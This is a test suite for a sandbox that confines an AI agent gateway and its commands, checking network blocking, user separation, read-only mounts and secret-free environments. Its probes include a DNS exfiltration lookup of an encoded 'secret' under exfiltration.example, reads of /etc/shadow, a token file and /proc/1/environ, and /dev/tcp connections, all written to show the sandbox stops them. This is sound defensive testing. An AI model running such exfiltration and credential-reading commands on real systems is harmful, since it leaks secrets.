"""A contained process and its commands: what they can do, what they cannot, and what is seen."""

import json
import os
import socket
import socketserver
import subprocess
import threading
import time

import pytest

from tests.adapters.kernel.conftest import COMMANDS, GATEWAY

pytestmark = pytest.mark.slow


class Proxy(socketserver.ThreadingTCPServer):
    """Stands where the egress proxy stands: says who is there."""

    daemon_threads = allow_reuse_address = True

    class RequestHandlerClass(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.sendall(b"the proxy\n")


@pytest.fixture
def proxy(contained):
    server = Proxy(("127.0.0.1", contained.port), Proxy.RequestHandlerClass)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


TRY = """python3 -c '
import errno, socket
def says(name, act):
    try: act(); print(name, "went through")
    except OSError as error: print(name, errno.errorcode.get(error.errno, error))
udp, raw = (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_RAW, 1)
def sent(to):
    one = socket.socket(*udp); one.sendto(b"x" * 20, to); one.send(b"")
says("tcp", lambda: socket.create_connection(("203.0.113.9", 443), 2))
says("tcp6", lambda: socket.create_connection(("2001:db8::9", 443), 2))
says("udp", lambda: sent(("203.0.113.9", 443)))
says("dns", lambda: sent(("203.0.113.9", 53)))
says("link", lambda: socket.create_connection(("10.86.0.1", 22), 2))
says("raw", lambda: socket.socket(*raw))
says("packet", lambda: socket.socket(17, 3, 0))
says("vsock", lambda: socket.socket(40, 1, 0))
'"""


@pytest.mark.parametrize("who", ["gateway", "commands"])
def test_nothing_leaves_and_all_of_it_is_seen(contained, who):
    if who == "gateway":
        done = contained.run(TRY)
    else:
        (contained.workspace / "try.sh").write_text(TRY)
        (contained.workspace / "try.sh").chmod(0o644)
        done = contained.command("sh try.sh")
    said = dict(line.split(" ", 1) for line in done.stdout.splitlines())
    assert set(said) == {"tcp", "tcp6", "udp", "dns", "link", "raw", "packet", "vsock"}
    assert "went through" not in said.values(), said
    seen = {line for line in done.stderr.splitlines() if line.startswith("stopped: ")}
    packets = {
        f"stopped: {who}: tcp 203.0.113.9:443",
        f"stopped: {who}: tcp [2001:db8::9]:443",
        f"stopped: {who}: udp 203.0.113.9:443",
        f"stopped: {who}: dns 203.0.113.9",
    }
    assert packets <= seen, done.stderr
    assert any("tcp 10.86." in line for line in seen)
    # What runs commands has a launcher of its own to tell of these.
    calls = {"inet raw icmp", "packet raw 0", "vsock stream 0"} if who == "gateway" else set()
    assert {f"stopped: {who}: socket {each}" for each in calls} <= seen


def test_a_name_is_looked_up_nowhere_and_the_attempt_is_seen(contained):
    done = contained.run("getent hosts c2VjcmV0.exfiltration.example")
    assert done.returncode == 2 and done.stdout == ""
    assert "gateway: dns c2VjcmV0.exfiltration.example at 192.0.2.53" in done.stderr


def test_the_proxy_is_where_it_always_is(contained, proxy):
    ask = f"exec 3<>/dev/tcp/127.0.0.1/{contained.port}; head -1 <&3"
    assert contained.run(f"bash -c '{ask}'").stdout == "the proxy\n"
    assert contained.command(f'bash -c "{ask}"').stdout == "the proxy\n"
    other = contained.run(f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{contained.port + 1}'")
    assert other.returncode != 0


def test_the_gateway_is_nobody_in_an_almost_empty_place(contained):
    done = contained.run(
        f"id -u; echo $(ls -A /); echo $(ps -e -o uid= | sort -u); echo x > {contained.state}/y;"
        "touch /x /usr/x; cat /etc/shadow; mount -t tmpfs x /tmp"
    )
    user, names, seen = done.stdout.splitlines()
    assert user == seen == str(GATEWAY)
    assert not {"home", "srv", "mnt", "sys", "opt"} & set(names.split())
    assert done.stderr.count("Read-only file system") == 2
    assert "/etc/shadow: No such file" in done.stderr
    assert (contained.state / "y").stat().st_uid == GATEWAY


def test_commands_are_somebody_else_and_share_the_workspace_alone(contained):
    (contained.workspace / "mine").write_text("from the gateway\n")
    done = contained.command(
        f"id -u; cat mine; echo made > theirs; stat -c %u theirs; cat {contained.config};"
        f" cat {contained.state}/token; cat /proc/1/environ; ls /run/clawband"
    )
    lines = done.stdout.splitlines()
    assert lines == [str(COMMANDS), "from the gateway", str(COMMANDS)]
    assert done.stderr.count("No such file or directory") >= 3, done.stderr
    assert (contained.workspace / "theirs").stat().st_uid == GATEWAY


def test_a_command_ends_as_it_ends_and_when_it_is_told(contained):
    assert contained.command("exit 7").returncode == 7
    done = contained.run(
        f"cd {contained.workspace}; {contained.hand_over} sh -c 'kill -9 $$'; echo $?;"
        f"{contained.hand_over} sleep 30 & sleep 1; kill $!; wait $!; echo $?;"
        f"{contained.hand_over} sleep 31 & sleep 1; kill -9 $!; sleep 0.5; "
        f"{contained.hand_over} pgrep -f 'sleep 3[1]'"
    )
    assert done.stdout.split() == ["137", "143"], done.stderr


def test_an_environment_without_secrets(contained):
    done = contained.run(
        "env", OPENAI_API_KEY="sk-1", OPENCLAW_GATEWAY_TOKEN="t-1", OPENCLAW_NO_RESPAWN="1"
    )
    assert "sk-1" not in done.stdout and "t-1" not in done.stdout
    assert "OPENCLAW_NO_RESPAWN=1" in done.stdout


def test_check_finds_all_of_it_kept_and_says_what_is_not(contained):
    with contained.start("echo up; sleep 30") as process:
        assert process.stdout.readline() == "up\n"
        time.sleep(0.5)
        done = contained.check("--json")
        told = json.loads(done.stdout)
        assert {
            each["id"]: each["found"] for each in told["checks"] if each["outcome"] != "pass"
        } == {}
        assert done.returncode == 0 and len(told["checks"]) == 17
        own = contained.check("--json", "--pid", str(os.getpid()))
        failed = {
            each["id"] for each in json.loads(own.stdout)["checks"] if each["outcome"] == "fail"
        }
        assert own.returncode == 1
        assert failed >= {"user", "command-user", "no-new-privileges", "capabilities", "seccomp"}
        assert failed >= {"network", "mounts", "root", "processes"}
        process.terminate()
        process.wait(30)
    gone = contained.check()
    assert gone.returncode == 3 and "contain run" in gone.stderr


def test_it_ends_with_its_supervisor(contained):
    with contained.start("echo $$; exec sleep 4242") as process:
        process.stdout.readline()
        assert [each for each in socket.if_nameindex() if each[1].startswith("clawband")]
        process.kill()
        process.wait()
        end = time.monotonic() + 10
        while [each for each in socket.if_nameindex() if each[1].startswith("clawband")]:
            assert time.monotonic() < end, "the link is still there, and so is what it led to"
            time.sleep(0.1)


def test_what_would_not_be_there_is_said_at_once(contained):
    done = contained.run("true", OPENCLAW_CONFIG_PATH="/nowhere")
    assert done.returncode == 0
    (contained.folder / "program").write_text("#!/bin/sh\n")
    (contained.folder / "program").chmod(0o755)
    words = [*contained.words("run"), "--", str(contained.folder / "program")]
    refused = subprocess.run(words, capture_output=True, text=True, check=False)
    assert refused.returncode == 2 and "add its folder with `--read`" in refused.stderr
